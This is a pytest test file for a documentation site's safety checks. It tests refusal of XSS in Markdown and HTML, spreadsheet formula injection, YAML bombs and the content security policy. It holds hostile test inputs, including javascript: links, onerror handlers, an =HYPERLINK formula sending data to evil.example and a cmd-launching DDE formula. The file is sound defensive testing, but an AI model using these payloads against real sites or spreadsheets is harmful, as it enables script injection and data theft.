"""Nothing an editor writes may run in a reader's browser; every mistake stops the build in plain words."""

from __future__ import annotations

import base64
import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import build, copy_project, soup
from hostile import BOMB, spoil_data, spoil_pages
from kb import safety
from kb.pagefile import read_page
from kb.yamlfile import load_yaml

# --- data text: the safe inline Markdown subset ---------------------------------

ALLOWED = [
    "plain text, with an ampersand & and a < sign alone",
    "*Trabajo Digno*{: lang=es } and **strong**",
    "the 6^e^ colloquium",
    "[a report](https://example.org/a_(b)) and [mail](mailto:someone@example.org)",
    "[a page](../menengage/index.md#principles)",
    "an autolink <https://example.org/>",
    "-3.5",  # a number, for spreadsheets too
    "a dash - or an equals sign = inside",
]


@pytest.mark.parametrize("text", ALLOWED)
def test_data_text_in_the_subset_passes(text):
    assert safety.check_data_text(text) == []


REFUSED = {
    "[a](javascript:alert(1))": 'links may only use http:, https:, mailto:, tel: or point to a page of the site, not "javascript:"',
    "[a](JaVaScRiPt:alert(1))": 'not "javascript:"',
    "[a](java\tscript:alert(1))": 'not "javascript:"',
    "[a](jav&#x61;script:alert(1))": 'not "javascript:"',
    "[a](<javascript:alert(1)>)": "raw HTML (<javascript:alert(1)>) is not allowed",
    "[a][x]\n\n[x]: javascript:alert(1)": 'not "javascript:"',
    "[a](data:text/html,<script>alert(1)</script>)": "raw HTML (<script>) is not allowed",
    "[a](data:text/html;base64,PHNjcmlwdD4=)": 'not "data:"',
    "[a](vbscript:msgbox)": 'not "vbscript:"',
    "[a](//evil.example/)": "leaves the site without saying how",
    "[a](/\\evil.example/)": "leaves the site without saying how",
    "*word*{: tabindex=0 autofocus onfocus=alert(4) }": "attribute lists in data text may only set a language, {: lang=es }; not onfocus",
    "*word*{: lang=es onclick=alert(1) }": "not onclick",
    '*word*{: lang="es" title=x }': "not title",
    "*word*{: lang=e_s }": '"e_s" is not a language code',
    '<span lang="es">Trabajo Digno</span>': 'raw HTML (<span lang="es">) is not allowed in data text',
    "6<sup>e</sup>": "raw HTML (<sup>) is not allowed",
    "<script>alert(1)</script>": "raw HTML (<script>) is not allowed",
    "<!-- hidden -->": "raw HTML (<!-- hidden -->) is not allowed",
    "<IMG SRC=x onerror=alert(1)>": "raw HTML (<IMG SRC=x onerror=alert(1)>) is not allowed",
    "![x](https://example.org/x.png)": "only inline Markdown is allowed in data text",
    "https://example.org/)[clic](javascript:alert(2))": 'not "javascript:"',
    # the open data's CSV, opened in a spreadsheet: a formula that sends the sheet away, or runs a program
    '=HYPERLINK("https://evil.example/?"&A2,"Source")': "would be a formula in the spreadsheets",
    "*=1+1*": "would be a formula in the spreadsheets",
    " @SUM(1)": "would be a formula in the spreadsheets",
    "-2+3+cmd|' /C calc'!A0": "would be a formula in the spreadsheets",
    "＝1+1": "would be a formula in the spreadsheets",
}


@pytest.mark.parametrize("text", REFUSED)
def test_data_text_outside_the_subset_is_refused_in_plain_words(text):
    problems = safety.check_data_text(text)
    assert any(REFUSED[text] in problem for problem in problems), problems


# --- page content -----------------------------------------------------------------

PAGE_HTML = {
    "<p><script>alert(1)</script></p>": ("<script", "a <script> element is not allowed in pages"),
    '<p><img src="x" onerror="alert(1)"></p>': ("onerror", "the attribute onerror=… would run code"),
    '<a href="javascript:alert(1)">a</a>': ("javascript:alert(1)", 'not "javascript:"'),
    '<a href="&#106;avascript:alert(1)">a</a>': ("javascript:alert(1)", 'not "javascript:"'),
    '<iframe src="https://example.org"></iframe>': ("<iframe", "a <iframe> element is not allowed"),
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>': ("<animate", "<animate>"),
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': ("javascript:alert(1)", "javascript:"),
    '<object data="x.swf"></object>': ("<object", "<object>"),
    '<meta http-equiv="refresh" content="0;url=https://example.org">': ("<meta", "<meta>"),
    '<form action="https://example.org"><input></form>': ("<form", "<form>"),
    '<img srcset="a.png 1x, javascript:alert(1) 2x">': ("javascript:alert(1)", "javascript:"),
}


@pytest.mark.parametrize("html", PAGE_HTML)
def test_page_content_that_could_run_code_is_found(html):
    needle, message = PAGE_HTML[html]
    found = safety.check_html(html)
    assert any(n == needle and message in m for n, m in found), found


def test_page_content_the_site_writes_passes():
    html = (
        '<p><a href="../glossary/#x">a</a> <a href="https://example.org/">b</a> <a href="mailto:a@b.org">c</a>'
        '<img src="../assets/charts/x.svg" alt="x"><input type="radio" id="a" name="t"><label for="a">t</label>'
        '<span class="twemoji"><svg viewBox="0 0 24 24"><path d="M1 1"/></svg></span></p>'
    )
    assert safety.check_html(html) == []


def test_the_policy_allows_the_themes_inline_scripts_by_hash_and_nothing_else(tmp_path):
    """The hashes come from the theme's templates (partials/javascripts/), never from the page."""
    scripts = tmp_path / "theme" / "partials" / "javascripts"
    scripts.mkdir(parents=True)
    (scripts / "base.html").write_text('<script>var a=new URL("{{ base_url }}")</script>\n'
                                       "<script>var b={{ config.extra.x }}</script>")  # fmt: skip
    (tmp_path / "theme" / "main.html").write_text("<script>var c=1</script>")  # not the scripts' folder
    page = (
        '<html><head><meta charset="utf-8"><script>var a=new URL("../..")</script>'
        "<script>alert(1)</script>"
        '<script id="__config" type="application/json">{"x": 1}</script>'
        '<script src="assets/x.js"></script></head><body></body></html>'
    )
    out = safety.add_policy(page, [tmp_path / "theme"], "../..")
    digest = base64.b64encode(hashlib.sha256(b'var a=new URL("../..")').digest()).decode()
    policy = soup_text(out).find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert f"script-src 'self' 'sha256-{digest}' 'wasm-unsafe-eval';" in policy
    assert policy.count("sha256-") == 1  # not the page's other script, nor a template's with other Jinja
    for part in ("default-src 'self'", "object-src 'none'", "base-uri 'self'"):
        assert part in policy
    assert "unsafe-inline'; img" in policy and "script-src 'self' 'unsafe-inline'" not in policy
    assert '<meta name="referrer" content="no-referrer">' in out
    assert out.index("Content-Security-Policy") < out.index("<script>")


def soup_text(html: str):
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, "lxml")


# --- files editors save -----------------------------------------------------------


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = tmp_path / "notes.yml"
    path.write_text(BOMB, encoding="utf-8")
    doc, problems = load_yaml(path, "data/notes.yml")
    assert doc is None
    assert [str(p) for p in problems] == [
        "data/notes.yml:1: anchors and aliases (&name, *name) are not allowed in data files: write each value out in full"
    ]


def test_deep_nesting_and_huge_files_are_refused(tmp_path):
    deep = tmp_path / "deep.yml"
    deep.write_text("a: " + "[" * 5000 + "]" * 5000, encoding="utf-8")
    assert [str(p) for p in load_yaml(deep, "data/deep.yml")[1]] == [
        "data/deep.yml:1: the data is nested more than 20 levels deep here"
    ]
    huge = tmp_path / "huge.yml"
    huge.write_text("a: '" + "x" * 20_100_000 + "'\n", encoding="utf-8")
    assert [str(p) for p in load_yaml(huge, "data/huge.yml")[1]] == [
        "data/huge.yml: the file is 20100 kB; data files are limited to 20,000 kB"
    ]


def test_a_file_in_another_encoding_names_its_line(tmp_path):
    path = tmp_path / "page.md"
    path.write_bytes("---\nsources: [gef-2021]\n---\n\n# Titre\n\nCafé\n".encode("latin-1"))
    source, problems = read_page(path, "content/fr/page.md")
    assert [str(p) for p in problems] == [
        "content/fr/page.md:7: this line is not UTF-8 text (the file was saved in another encoding, e.g. Latin-1 "
        "or Windows-1252): save the file as UTF-8 in your editor"
    ]


def test_invalid_front_matter_names_the_page_and_line(tmp_path):
    path = tmp_path / "page.md"
    path.write_text("---\nsources: [gef-2021]\ndescription: a: b\n---\n\n# Titre\n", encoding="utf-8")
    source, problems = read_page(path, "content/fr/page.md")
    assert [str(p) for p in problems] == [
        "content/fr/page.md:3: front matter: this is not valid YAML: mapping values are not allowed in this context "
        "(check indentation, colons and quotes on this line or the one before)"
    ]
    # the front matter is emptied, its lines kept: nothing of it reaches the theme
    assert source == "---\n\n\n---\n\n# Titre\n"


def test_front_matter_the_theme_prints_is_plain_text(tmp_path):
    path = tmp_path / "page.md"
    path.write_text('---\nsources: [gef-2021]\ntitle: "<img src=x onerror=alert(1)>"\n---\n\n# Titre\n')
    assert [str(p) for p in read_page(path, "content/fr/page.md")[1]] == [
        "content/fr/page.md:3: title: the title is plain text, shown in menus, tabs and search results: no HTML"
    ]


# --- whole builds -----------------------------------------------------------------


def _failed_build_report(project: Path, out: Path, expected: list[str]) -> list[str]:
    """Build `project`: it must fail without a traceback and report every `expected` line; return the report."""
    result = build(project, out)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output
    tail = output.split("problems to fix:", 1)[1]
    report = [line[4:] for line in tail.splitlines() if line.startswith("  - ")]
    for start in expected:
        assert any(line.startswith(start) for line in report), f"{start!r} not reported in:\n" + "\n".join(report)
    return report


def test_every_mistake_of_data_and_pages_is_reported_in_one_run_and_nothing_is_published(tmp_path):
    project = copy_project(tmp_path / "project")
    expected = spoil_data(project) + [
        line
        for line in spoil_pages(project)
        if ": link: " not in line  # links: checked once the data is right
    ]
    out = tmp_path / "out"
    report = _failed_build_report(project, out, expected)
    assert "data/: links and anchors between pages will be checked once the data files' problems are fixed" in report
    # causes first: the data files, then the pages (kb.causes), each by file and line
    def key(line):
        file, number = line.split(":")[0], line.split(":")[1]
        return (not file.startswith("data"), file, int(number) if number.isdigit() else 0)

    assert report == sorted(report, key=key)
    assert not any(out.iterdir()), "a failed build leaves nothing to publish"


def test_page_mistakes_and_broken_links_of_both_languages_are_reported_together(tmp_path):
    project = copy_project(tmp_path / "project")
    expected = spoil_pages(project)
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("  - Glossaire: glossary.md\n", "  - Glossaire: glossary.md\n  - Perdu: lost.md\n"))
    expected.append("mkdocs.yml:")  # a nav entry for a page that does not exist
    (project / "content" / "fr" / "orphan.md").write_text("---\nsources: [gef-2021]\n---\n\n# Orpheline\n")
    expected.append("mkdocs.yml:")  # the page left out of the navigation, in `make check`'s words:
    nav_line = text.split("\n").index("nav:") + 1
    expected.append(f"mkdocs.yml:{nav_line}: nav: the page orphan.md is not in the navigation: add it under nav:")
    report = _failed_build_report(project, tmp_path / "out", expected)
    assert any("the navigation lists lost.md, which is not a page" in line for line in report)


def test_make_build_is_strict_like_mkdocs_build_strict(tmp_path):
    """`make build` runs hooks/kb/parallel.py: a broken link fails it and is shown with its page and line."""
    project = copy_project(tmp_path / "project")
    page = project / "content" / "en" / "about.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(text + "\n[broken](nowhere.md)\n", encoding="utf-8")
    line = text.count("\n") + 2
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run(
        [sys.executable, "-m", "kb.parallel", str(tmp_path / "site")],
        cwd=project / "hooks",
        capture_output=True,
        text=True,
        env=env,
    )
    assert result.returncode == 1
    assert f"  - content/en/about.md:{line}: link: the link to nowhere.md leads nowhere" in result.stderr
    assert not (tmp_path / "site").exists()


# --- the built site -----------------------------------------------------------------


def test_every_page_carries_the_policy_and_no_referrer(site):
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 50
    for path in pages:
        page = soup(path)
        policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert policy is not None, path
        assert page.find("meta", attrs={"name": "referrer"})["content"] == "no-referrer", path
        # every inline script the page runs is allowed by its hash, from the theme's fixed set
        allowed = {part for part in policy["content"].split() if part.startswith("'sha256-")}
        inline = [s.string or "" for s in page.find_all("script") if not s.get("src") and not s.get("type")]
        assert inline and {safety._sha256(code) for code in inline} <= allowed, path
        assert len(allowed) < 10, path  # a fixed set (the theme's few), not one per script found
        assert "unsafe-inline' 'wasm" not in policy["content"] and "'unsafe-eval'" not in policy["content"]
